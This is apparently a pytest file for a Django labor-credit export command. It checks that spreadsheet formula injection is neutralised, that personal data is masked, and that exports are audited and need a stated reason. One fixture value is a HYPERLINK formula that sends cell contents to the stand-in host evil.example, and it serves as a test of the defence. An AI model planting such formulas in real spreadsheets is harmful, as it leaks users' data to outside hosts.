"""`laborcredit export`: masked, formula-proof, audited; a bulk export needs a reason (IN2, AC3)."""

from __future__ import annotations

import csv
import datetime
import io

import openpyxl
import pytest
from django.core.management import CommandError, call_command

from laborcredit.audit.models import AuditEntry
from laborcredit.credit.exporting import export_file
from laborcredit.credit.services import record_create
from laborcredit.lib.errors import Refused
from laborcredit.lib.spreadsheets import neutralise
from tests.factories import EmployerFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


@pytest.fixture
def employer():
    e = EmployerFactory(
        name=FORMULA,
        legal_rep_name="张三明",
        legal_rep_id_number="11010519491231002X",
        contact_phone="13812345678",
    )
    record_create(
        employer=e,
        type="violation_found",
        date=datetime.date.today() - datetime.timedelta(days=10),
        case="K1",
        description="@SUM(1+1)",
        actor="officer",
    )
    return e


def read_csv(path):
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"))))


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\x00=1"])
def test_every_formula_start_is_neutralised(value):
    assert neutralise(value) == "'" + value


def test_ordinary_text_and_numbers_are_left_alone():
    assert neutralise("舞钢市") == "舞钢市" and neutralise(-5) == -5


def test_a_formula_name_is_neutralised_in_csv_and_personal_information_masked(employer, tmp_path):
    export_file("employers", tmp_path / "e.csv", fmt="csv", reason="年度核查")
    _header, row = read_csv(tmp_path / "e.csv")
    assert row[1] == "'" + FORMULA
    assert row[2] == "张*明" and row[3] == "110105********002X" and row[11] == "138****5678"
    assert "11010519491231002X" not in (tmp_path / "e.csv").read_text(encoding="utf-8-sig")


def test_a_formula_name_is_neutralised_in_xlsx(employer, tmp_path):
    export_file("records", tmp_path / "r.xlsx", reason="年度核查")
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    name_cell, description = sheet.cell(2, 2), sheet.cell(2, 11)
    assert name_cell.value == "'" + FORMULA and name_cell.data_type == "s"
    assert description.value == "'@SUM(1+1)" and description.data_type == "s"
    assert sheet.cell(2, 3).value == "违反人社法律法规行为被查处"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row), (
        "no cell of an export may be a formula"
    )


def test_every_export_is_audited_with_its_row_count_and_reason(employer, tmp_path):
    before = AuditEntry.objects.filter(event="export").count()
    export_file("grades", tmp_path / "g.xlsx", reason="报送上级")
    entry = AuditEntry.objects.filter(event="export").latest("seq")
    assert AuditEntry.objects.filter(event="export").count() == before + 1
    assert entry.data["rows"] == 1 and entry.data["reason"] == "报送上级"
    assert entry.data["kind"] == "grades" and entry.data["bulk"] is True


def test_a_bulk_export_without_a_reason_is_refused_and_writes_nothing(employer, tmp_path):
    with pytest.raises(Refused) as caught:
        export_file("employers", tmp_path / "e.xlsx")
    assert caught.value.codes == ["reason-missing"]
    assert not (tmp_path / "e.xlsx").exists()
    assert not AuditEntry.objects.filter(event="export").exists()


def test_one_employers_export_needs_no_reason(employer, tmp_path):
    result = export_file("employers", tmp_path / "e.csv", fmt="csv", usccs=[employer.uscc])
    assert result.rows == 1


def test_unmasked_export_needs_a_reason_and_shows_personal_information(employer, tmp_path):
    with pytest.raises(Refused):
        export_file(
            "employers", tmp_path / "e.csv", fmt="csv", usccs=[employer.uscc], unmasked=True
        )
    export_file("employers", tmp_path / "e.csv", fmt="csv", reason="核实身份", unmasked=True)
    assert read_csv(tmp_path / "e.csv")[1][3] == "11010519491231002X"
    entry = AuditEntry.objects.filter(event="export").latest("seq")
    assert entry.data["personal_info"] == "unmasked"


def test_the_command_refuses_a_bulk_export_without_reason(employer, tmp_path):
    with pytest.raises(CommandError) as caught:
        call_command("export", "employers", "-o", str(tmp_path / "e.xlsx"))
    assert caught.value.returncode == 1 and "事由" in str(caught.value)


def test_the_command_exports_by_file_extension(employer, tmp_path, capsys):
    call_command("export", "records", "-o", str(tmp_path / "r.csv"), "--reason", "抽查")
    assert "已导出信用记录 1 行" in capsys.readouterr().out
    assert read_csv(tmp_path / "r.csv")[0][0] == "统一社会信用代码"
